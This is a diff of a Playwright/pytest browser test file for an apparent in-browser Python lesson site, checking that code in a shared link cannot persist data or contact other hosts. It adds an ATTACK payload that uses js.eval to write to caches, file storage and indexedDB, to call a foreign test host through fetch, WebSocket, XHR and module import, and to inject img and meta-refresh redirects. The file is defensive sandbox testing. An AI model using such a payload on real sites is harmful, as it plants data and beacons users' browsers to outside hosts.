@@ -8,8 +8,10 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from playwright.sync_api import expect
 
-from tests.browser.conftest import OpenEssay
+from downhill.session.fragment import encode
+from tests.browser.conftest import Kept, OpenEssay
 from tests.support.escapes import PYTHON, TRY, WAYS, program
 from tests.support.essay import Essay, at_once, until
 from tests.support.faults import FaultyServer, faulty
@@ -28,9 +30,28 @@ KEPT = """async () => {
     };
 }"""
 """What the device keeps of the site; for a page that does not put its own things in the place of the browser's."""
-HARM = """cache/indexedDB/private files/lock/fetch at home/socket/events/worker/other tabs/module of a blob/getter/by name
-navigator/what is reached/its module anew/databases""".replace("\n", "/").split("/")
+HARM = """cache/private files/buckets/lock/fetch at home/socket/events/worker/other tabs/module of a blob/getter/by name
+navigator/what is reached/its module anew""".replace("\n", "/").split("/")
 """Ways that lead somewhere where there is no wall; the page's policy holds others."""
+
+ATTACK = """import js
+def predict(x, m, b):
+    return m * x + b
+def loss(x, y, m, b):
+    return abs(y - predict(x, m, b)).sum()
+js.eval('''(async (own, there) => {
+    const put = async (name) => (await caches.open(name)).put(own, new Response("evil"));
+    self.held = 0;
+    for (const way of [() => put("evil"), async () => { for (const name of await caches.keys()) await put(name); },
+        () => navigator.storage.getDirectory().then(all => all.getFileHandle("evil", { create: true })),
+        () => indexedDB.open("evil"), () => fetch(there), () => new WebSocket(there.replace("http", "ws")), () => new Worker(own),
+        () => { const one = new XMLHttpRequest(); one.open("GET", there); one.send(); }, () => import(there + "module.js")])
+        try { await way(); } catch { held++; }
+    postMessage(["downhill", { broken: `<img src=${there}>` }]);
+    postMessage(`<meta http-equiv=refresh content="0;url=${there}">`);
+})(OWN, THERE)''')
+"""
+"""What a stranger's link brings: the line's loss, and nine ways to keep something, or to reach another host."""
 
 
 @pytest.fixture
@@ -98,7 +119,7 @@ def test_without_the_wall_the_same_code_keeps_and_reaches_things(
     page = essay.page.context.new_page()
     page.goto(f"{host.address}README.txt")
     kept = page.evaluate(KEPT)
-    assert {place for place in kept if "evil" in str(kept[place])} >= {"caches", "files", "databases"}
+    assert {place for place in kept if "evil" in str(kept[place])} == {"buckets", "caches", "files"}
 
 
 def test_nor_does_any_in_firefox(firefox_path: Path, host: FaultyServer, elsewhere: FaultyServer) -> None:
@@ -114,3 +135,21 @@ def test_nor_does_any_in_firefox(firefox_path: Path, host: FaultyServer, elsewhe
         assert elsewhere.asked == []
         assert tab.run("() => document.title") != "evil"
         untouched(other.run, before, host)
+
+
+def test_a_strangers_link_that_was_run_leaves_the_next_visit_what_it_was(
+    kept: Kept, elsewhere: FaultyServer
+) -> None:
+    essay, host = kept
+    essay.page.goto(f"{host.address}README.txt")
+    before = essay.page.evaluate(KEPT)
+    code = ATTACK.replace("OWN", repr(host.address)).replace("THERE", repr(elsewhere.address))
+    lesson = essay.open("#" + encode("line", {"line.code": code})).ready().lesson("line")
+    lesson.section.locator("[data-code-do=run]").click()
+    expect(lesson.section.locator("[data-code]")).to_have_attribute("data-code-state", "changed")
+    until(essay.page, lambda: 9 in [one.evaluate("self.held") for one in essay.page.workers], "all is tried")
+    assert essay.page.url.startswith(host.address)
+    essay.page.goto(f"{host.address}README.txt")
+    untouched(essay.page.evaluate, before, host)
+    essay.open("").ready().lesson("valley").press("step")
+    assert elsewhere.asked == []
